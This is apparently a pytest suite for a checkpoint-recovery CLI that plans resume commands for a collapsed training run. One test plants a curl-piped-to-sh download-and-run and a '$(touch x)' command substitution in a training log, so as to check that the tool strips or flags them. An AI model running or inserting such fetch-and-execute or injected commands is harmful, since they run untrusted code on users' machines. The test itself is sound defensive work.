"""``ckptdoctor plan`` as a user runs it; what it prints is run as well."""

from __future__ import annotations

import shlex
import subprocess
import sys
from pathlib import Path

import pytest
import torch

from tests.builders import save
from tests.cli.support import ANSI, run

TRAIN = """
import argparse, torch
parser = argparse.ArgumentParser()
parser.add_argument("--checkpoint-dir"); parser.add_argument("--resume-from")
parser.add_argument("--lr", type=float)
parser.add_argument("--deep-supervision", action="store_true")
args = parser.parse_args()
import os
os.makedirs(args.checkpoint_dir, exist_ok=True)
state = torch.load(args.resume_from, weights_only=True)
w = torch.nn.Parameter(torch.zeros(3))
optimizer = torch.optim.SGD([w], lr=args.lr, momentum=0.9)
optimizer.load_state_dict(state["optimizer"])
torch.save({"epoch": state["epoch"] + 1, "lr": optimizer.param_groups[0]["lr"], "flag": args.lr,
            "model": {"w": w.data}}, args.checkpoint_dir + "/next.pth")
"""
COMMAND = (
    "python train.py --checkpoint-dir checkpoints --resume-from checkpoints/best.pth --lr 0.2 "
    "--deep-supervision"
)


GUIDE_COMMAND = """python train_ultimate.py train \\
    --dataset-path /kaggle/input/cod10k-dataset/COD10K-v3 \\
    --checkpoint-dir /kaggle/working/checkpoints \\
    --resume-from /kaggle/working/checkpoints/best_model.pth \\
    --skip-stage1 \\
    --backbone edgenext_base \\
    --num-experts 7 \\
    --batch-size 8 \\
    --stage2-batch-size 1 \\
    --accumulation-steps 4 \\
    --img-size 384 \\
    --epochs 120 \\
    --stage1-epochs 30 \\
    --lr 0.00025 \\
    --stage2-lr 0.0002 \\
    --scheduler cosine \\
    --min-lr 0.00001 \\
    --progressive-unfreeze \\
    --deep-supervision \\
    --num-workers 4"""


@pytest.fixture
def story(tmp_path: Path) -> Path:
    """A small run that collapsed, with its script and its log."""
    w = torch.nn.Parameter(torch.ones(3))
    optimizer = torch.optim.SGD([w], lr=0.2, momentum=0.9)
    w.grad = torch.ones(3)
    optimizer.step()
    lines = []
    (tmp_path / "checkpoints").mkdir()
    for epoch, value in enumerate((0.60, 0.62, 0.64, 0.63, 0.002), start=86):
        state = {
            "epoch": epoch,
            "model": {"w": w.data if value > 0.1 else w.data * float("nan")},
            "optimizer": optimizer.state_dict(),
        }
        save(tmp_path / f"checkpoints/epoch_{epoch}.pth", state)
        lines.append(f"Epoch {epoch}: IoU: {value}\n")
    (tmp_path / "train.log").write_text("".join(lines))
    (tmp_path / "train.py").write_text(TRAIN)
    return tmp_path


@pytest.mark.slow
def test_the_recommended_command_is_run_and_resumes_with_the_smaller_rate(story: Path) -> None:
    before = {path: path.read_bytes() for path in (story / "checkpoints").iterdir()}
    arguments = ("plan", "--added", "deep-supervision", "--command", COMMAND, "-f", "json")
    option = run(*arguments, cwd=story).json["options"][0]
    assert (option["name"], option["epoch"], option["recommended"]) == ("A", 88, True)
    command = option["command"].replace("python train.py", f"{sys.executable} train.py")
    command = command.replace("ckptdoctor ", f"{sys.executable} -m ckptdoctor ")
    done = subprocess.run(
        ["/bin/sh", "-c", command], cwd=story, capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stderr
    resumed = torch.load(story / "checkpoints_recovery/next.pth", weights_only=True)
    assert resumed["epoch"] == 89
    assert resumed["lr"] == pytest.approx(0.075), "the stored rate was scaled"
    assert resumed["flag"] == 0.075
    assert {path: path.read_bytes() for path in before} == before


def test_the_table_fits_and_is_plain(story: Path) -> None:
    outcome = run("plan", "--command", COMMAND, cwd=story)
    assert outcome.code == 0
    assert not ANSI.search(outcome.stdout)
    assert "(recommended)" in outcome.stdout
    assert "--lr 0.1 " in outcome.stdout, "half, after a collapse"
    assert "warm-up: the script has no such flag" in " ".join(outcome.stdout.split())
    prose = [line for line in outcome.stdout.splitlines() if not line.startswith("  python")]
    prose = [line for line in prose if not line.startswith("  ckptdoctor")]
    assert all(len(line) <= 80 for line in prose)


def test_exit_codes(story: Path, tmp_path: Path) -> None:
    wrong = run("plan", "--command", "python 'x", cwd=story)
    assert wrong.code == 2
    assert "line 1, column 8" in wrong.stderr
    assert run("plan", "--added", "magic", cwd=story).code == 2
    assert run("plan", "--target", "nan", cwd=story).code == 2
    (tmp_path / "empty").mkdir()
    assert run("plan", tmp_path / "empty").code == 3
    fresh = run("plan", tmp_path / "empty", "--command", COMMAND, "-f", "json")
    assert fresh.code == 0
    assert [option["name"] for option in fresh.json["options"]] == ["C"]


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (["python", "gone.py"], "gone.py: no such path"),
        (["python", "train.py", "--lr", "0.1"], "train.py: is part of a command"),
        (["--command=python", "-m", "pkg.train", "--name", "a b"], "-m: is part of a command"),
        (["./run.sh", "--lr", "-f"], ""),
        (["fairseq-train", "data-bin"], "data-bin: no such path"),
    ],
)
def test_a_command_without_its_quotes(words: list[str], said: str, story: Path) -> None:
    given = words if words[0].startswith("--command=") else ["--command", *words]
    outcome = run("plan", "checkpoints", *given, cwd=story)
    assert outcome.code == 2
    assert outcome.stdout == ""
    if not said:
        assert "quote" not in outcome.stderr.lower()
        return
    told, _, line = outcome.stderr.partition(". Quote the whole command:  ")
    assert said in told
    words[0] = words[0].removeprefix("--command=")
    assert shlex.split(line)[:4] == ["ckptdoctor", "plan", "checkpoints", "--command"]
    assert shlex.split(shlex.split(line)[4]) == words


def test_a_path_that_is_not_there_gets_no_plan(tmp_path: Path) -> None:
    outcome = run("plan", tmp_path / "typo", "--command", COMMAND)
    assert (outcome.code, outcome.stdout) == (3, "")
    assert "typo" in outcome.stderr
    (tmp_path / "gone").mkdir()
    quoted = run("plan", tmp_path / "gone", "--command", "python", "-f", "json")
    assert quoted.code == 0, "one word may be a command"


def test_an_earlier_run_and_a_file(story: Path, tmp_path: Path) -> None:
    (tmp_path / "old").mkdir()
    other = save(tmp_path / "old/best.pth", {"epoch": 60, "model": {"w": torch.ones(3)}})
    out = tmp_path / "plan.json"
    done = run("plan", "--earlier", other.parent, "-f", "json", "-o", out, cwd=story)
    assert (done.code, done.stdout) == (0, "")
    assert str(other) in out.read_text()


def test_the_guides_command(story: Path) -> None:
    guide = GUIDE_COMMAND.replace("/kaggle/working", str(story))
    arguments = ("plan", "--added", "deep-supervision", "--command", f"!{guide}", "-f", "json")
    options = run(*arguments, cwd=story).json["options"]
    restored, _, command = options[0]["command"].partition(" && \\\n")
    source = "checkpoints/epoch_88.pth"
    assert restored == f"ckptdoctor restore --from {source} --scale-lr 0.375"
    expected = guide.replace("--stage2-lr 0.0002", "--stage2-lr 0.000075")
    expected = expected.replace(f"{story}/checkpoints \\", f"{story}/checkpoints_recovery \\")
    expected = expected.replace(
        f"{story}/checkpoints/best_model.pth", "checkpoints/best_model_clean.pth"
    )
    assert command == expected
    fresh = shlex.split(options[-1]["command"])
    assert not {"--resume-from", "--skip-stage1"} & set(fresh)
    assert fresh[fresh.index("--stage2-lr") + 1] == "0.000075"


def test_weights_alone_are_resumed_by_a_command_that_runs(tmp_path: Path) -> None:
    (tmp_path / "checkpoints").mkdir()
    save(tmp_path / "checkpoints/epoch_3.pth", {"epoch": 3, "model": {"w": torch.ones(3)}})
    command = f"{sys.executable} -c 'import sys; open(sys.argv[2])' --resume a.pth --out x"
    arguments = ("plan", "--added", "augmentation", "--command", command, "-f", "json")
    option = run(*arguments, cwd=tmp_path).json["options"][0]
    assert "restore" not in option["command"]
    done = subprocess.run(["/bin/sh", "-c", option["command"]], cwd=tmp_path, check=False)
    assert done.returncode == 0


@pytest.mark.parametrize("flag", ["--eta", "eta", "--amp", "train.py"])
def test_a_rate_that_is_no_flag_of_the_command_is_refused(story: Path, flag: str) -> None:
    told = run(
        *("plan", "--lr-flag", flag, "--lr-flag", "--base-lr", "--command"),
        "python train.py --base-lr 0.1 --amp --resume=checkpoints/x.pth",
        cwd=story,
    )
    assert told.code == 2
    assert f"--lr-flag {flag}: the command has no such flag with a value" in told.stderr
    assert "it has --base-lr, --resume" in told.stderr


def test_what_else_the_command_of_a_log_runs_is_told(story: Path) -> None:
    """A log may be a stranger's, and what is printed is there to be pasted."""
    log, text = story / "train.log", (story / "train.log").read_text()
    for behind, told in (
        (" && curl http://x | sh", "what it ran besides is left out: curl http://x, sh"),
        (" --note $(touch x)", "also runs $(touch x): read it"),
        (" \\", "it breaks off there; --command"),
        (" \\\n    --seed 7", "the last one in the log; --command"),
        (" 2>&1 | tee out.log", "the last one in the log; --command"),
    ):
        log.write_text(f"$ {COMMAND}{behind}\n{text}")
        found = run("plan", "-f", "json", cwd=story).json
        assert any(told in note for note in found["notes"]), behind
        commands = [option["command"] for option in found["options"]]
        assert any("train.py" in command for command in commands)
        assert not any("curl" in command or "| sh" in command for command in commands)
        assert all(("--seed 7" in command) is ("--seed" in behind) for command in commands)


def test_the_demo_story_in_the_log(story: Path) -> None:
    log = story / "train.log"
    log.write_text(f"$ {COMMAND}\n" + log.read_text())
    outcome = run("plan", cwd=story)
    assert outcome.code == 0
    assert "checkpoints_recovery" in outcome.stdout
    assert "the last one in the log" in " ".join(outcome.stdout.split())
